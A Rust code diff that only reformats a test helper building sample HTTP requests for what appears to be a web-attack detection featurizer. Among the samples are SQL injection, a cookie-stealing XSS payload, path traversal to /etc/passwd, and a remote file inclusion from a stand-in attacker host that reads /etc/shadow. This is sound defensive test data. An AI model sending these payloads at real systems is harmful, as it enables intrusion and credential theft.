@@ -40,7 +40,9 @@ pub fn random_mlp(widths: &[usize], gain: f32, rng: &mut SplitMix) -> Mlp {
             Dense {
                 in_dim,
                 out_dim,
-                weight: (0..in_dim * out_dim).map(|_| rng.symmetric(bound)).collect(),
+                weight: (0..in_dim * out_dim)
+                    .map(|_| rng.symmetric(bound))
+                    .collect(),
                 bias: (0..out_dim).map(|_| rng.symmetric(bound)).collect(),
             }
         })
@@ -77,10 +79,15 @@ pub fn sample_targets() -> Vec<String> {
     for i in 0..40 {
         targets.push(format!("/tienda1/publico/anadir.jsp?id={i}&nombre=Vino+Rioja&precio={}&cantidad={}&B1=A%F1adir+al+carrito", 85 + i, i % 7));
         targets.push(format!("/tienda1/publico/autenticar.jsp?modo=entrar&login=user{i}&pwd=secret{i}&remember=on&B1=Entrar"));
-        targets.push(format!("/tienda1/publico/buscar.jsp?B1=Buscar&texto=item{i}"));
+        targets.push(format!(
+            "/tienda1/publico/buscar.jsp?B1=Buscar&texto=item{i}"
+        ));
     }
     targets.push("/tienda1/publico/anadir.jsp?id=2%27+OR+%271%27%3D%271&nombre=x".into());
-    targets.push("/tienda1/publico/buscar.jsp?texto=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E".into());
+    targets.push(
+        "/tienda1/publico/buscar.jsp?texto=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"
+            .into(),
+    );
     targets.push("/tienda1/publico/../../etc/passwd".into());
     targets.push("/index.php?page=http://evil.example/shell.txt&cmd=cat+/etc/shadow".into());
     targets
@@ -89,6 +96,10 @@ pub fn sample_targets() -> Vec<String> {
 /// A featurizer fitted on [`sample_targets`] with `top_k` tokens at most.
 pub fn sample_featurizer(top_k: usize) -> Featurizer {
     let targets = sample_targets();
-    let config = FeaturizerConfig { top_k, ..FeaturizerConfig::default() };
-    Featurizer::fit(config, targets.iter().map(|t| RequestParts::get(t))).expect("fit the sample featurizer")
+    let config = FeaturizerConfig {
+        top_k,
+        ..FeaturizerConfig::default()
+    };
+    Featurizer::fit(config, targets.iter().map(|t| RequestParts::get(t)))
+        .expect("fit the sample featurizer")
 }
